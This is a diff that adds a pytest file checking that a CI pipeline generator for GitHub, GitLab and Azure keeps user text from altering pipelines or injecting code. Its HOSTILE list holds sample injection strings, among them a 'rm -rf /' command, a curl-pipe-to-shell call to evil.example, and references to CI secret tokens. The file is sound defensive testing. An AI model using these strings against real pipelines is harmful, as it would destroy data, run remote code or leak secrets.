@@ -1,0 +1,137 @@
+"""User text (project name, approver, commands, key features, check descriptions) cannot
+change a pipeline's structure, start an expression, or reach a script except where the user
+wrote a command."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import Any
+
+import pytest
+import yaml
+
+from tests.ci.designs import POLICY, make_design
+from tests.ci.schemas import schema_errors
+from tests.ci.views import PipelineView
+from wizard.answers import STAGE_ORDER
+from wizard.ci import render_ci
+from wizard.design import CanaryStep, Design
+from wizard.files import CI_PATHS
+
+HOSTILE = (
+    "x'; rm -rf / #",
+    "quote \" and ' both",
+    "${{ secrets.GITHUB_TOKEN }}",
+    "$(curl https://evil.example | sh)",
+    "line one\nline two: injected\n- item",
+    "key: value # comment",
+    "`whoami`",
+    "on",
+    "yes",
+    "*alias &anchor !tag",
+    "{flow: map}, [seq]",
+    "%YAML 1.1",
+    "$[ variables['System.AccessToken'] ]",
+    "$CI_JOB_TOKEN and $$",
+    "--- \n...",
+)
+PLATFORMS = tuple(CI_PATHS)
+#: Expressions the generator itself writes on GitHub, over data it controls.
+GITHUB_OWN_EXPRESSIONS = (
+    "${{ '${{' }}",
+    "${{ github.event.client_payload.reason || inputs.reason || github.event_name }}",
+    "${{ github.ref }}",
+)
+
+
+def hostile_design(platform: str, text: str) -> Design:
+    design = make_design(
+        platform,
+        project_name=text,
+        approver=text,
+        commands={stage: f"echo {text}" for stage in STAGE_ORDER},
+        environment={**POLICY, "KEY_FEATURES": f"{text},amount"},
+    )
+    return replace(design, canary=tuple(CanaryStep(step.percent, text) for step in design.canary))
+
+
+def strings(data: Any) -> list[str]:
+    if isinstance(data, dict):
+        return [*map(str, data), *(s for value in data.values() for s in strings(value))]
+    if isinstance(data, list):
+        return [s for item in data for s in strings(item)]
+    return [data] if isinstance(data, str) else []
+
+
+@pytest.mark.parametrize("platform", PLATFORMS)
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_keeps_the_pipeline_valid_and_its_shape(platform: str, text: str) -> None:
+    rendered = render_ci(hostile_design(platform, text)).text
+    assert schema_errors(platform, rendered) == []
+    hostile = PipelineView.parse(platform, rendered)
+    plain = PipelineView.parse(platform, render_ci(make_design(platform)).text)
+    assert list(hostile.document) == list(plain.document)
+    assert hostile.stage_jobs() == plain.stage_jobs()
+    assert hostile.canary_percents() == plain.canary_percents()
+    assert hostile.has_approval_gate() and hostile.has_gate_step()
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_github_evaluates_no_expression_from_user_text(text: str) -> None:
+    rendered = render_ci(hostile_design("github-actions", text)).text
+    for value in strings(yaml.safe_load(rendered)):
+        for own in GITHUB_OWN_EXPRESSIONS:
+            value = value.replace(own, "")
+        assert "${{" not in value
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_github_commands_run_exactly_as_written(text: str) -> None:
+    view = PipelineView.parse(
+        "github-actions", render_ci(hostile_design("github-actions", text)).text
+    )
+    command = view.scripts("train_model")[0]
+    assert command.replace("${{ '${{' }}", "${{") == f"echo {text}"
+
+
+@pytest.mark.parametrize("platform", ["gitlab-ci", "azure-pipelines"])
+@pytest.mark.parametrize("text", HOSTILE)
+def test_commands_reach_the_script_as_written(platform: str, text: str) -> None:
+    view = PipelineView.parse(platform, render_ci(hostile_design(platform, text)).text)
+    command = view.scripts("train_model")[0]
+    if platform == "azure-pipelines":
+        # Azure would evaluate ${{ }} while compiling; ${{ is never valid shell anyway.
+        command = command.replace("$ {{", "${{")
+    assert command == f"echo {text}"
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_gitlab_does_not_expand_user_variables(text: str) -> None:
+    view = PipelineView.parse("gitlab-ci", render_ci(hostile_design("gitlab-ci", text)).text)
+    features = view.variables()["KEY_FEATURES"]
+    if "$" in text:
+        assert features == {"value": f"{text},amount", "expand": False}
+    else:
+        assert features == f"{text},amount"
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_azure_macros_and_expressions_in_user_text_are_inert(text: str) -> None:
+    rendered = render_ci(hostile_design("azure-pipelines", text)).text
+    document = yaml.safe_load(rendered)
+    shown = [document["variables"]["KEY_FEATURES"]]
+    for stage in document["stages"]:
+        for job in stage["jobs"]:
+            for step in job["steps"]:
+                shown += [step.get("displayName", ""), *step.get("inputs", {}).values()]
+    for value in map(str, shown):
+        assert "${{" not in value
+        assert "$(" not in value
+        assert "$[" not in value
+
+
+@pytest.mark.parametrize("platform", PLATFORMS)
+def test_user_text_never_lands_in_the_gate_script(platform: str) -> None:
+    text = "$(touch /tmp/pwned)"
+    view = PipelineView.parse(platform, render_ci(hostile_design(platform, text)).text)
+    assert "pwned" not in view.scripts("evaluate_model")[1]
